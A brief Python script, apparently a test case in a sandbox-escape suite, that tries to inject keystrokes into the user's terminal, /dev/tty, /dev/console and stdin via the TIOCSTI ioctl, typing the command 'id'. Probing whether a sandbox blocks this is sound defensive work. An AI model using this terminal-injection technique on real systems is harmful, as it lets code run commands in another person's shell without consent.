"""Types into the terminal of the person."""

import fcntl
import os

from attack import attempt


def type_into(path):
    descriptor = os.open(path, os.O_RDWR)
    for letter in b"id\n":
        fcntl.ioctl(descriptor, 0x5412, bytes([letter]))


attempt("tty", lambda: type_into("/dev/tty"))
attempt("console", lambda: type_into("/dev/console"))
attempt("stdin", lambda: fcntl.ioctl(0, 0x5412, b"x"))
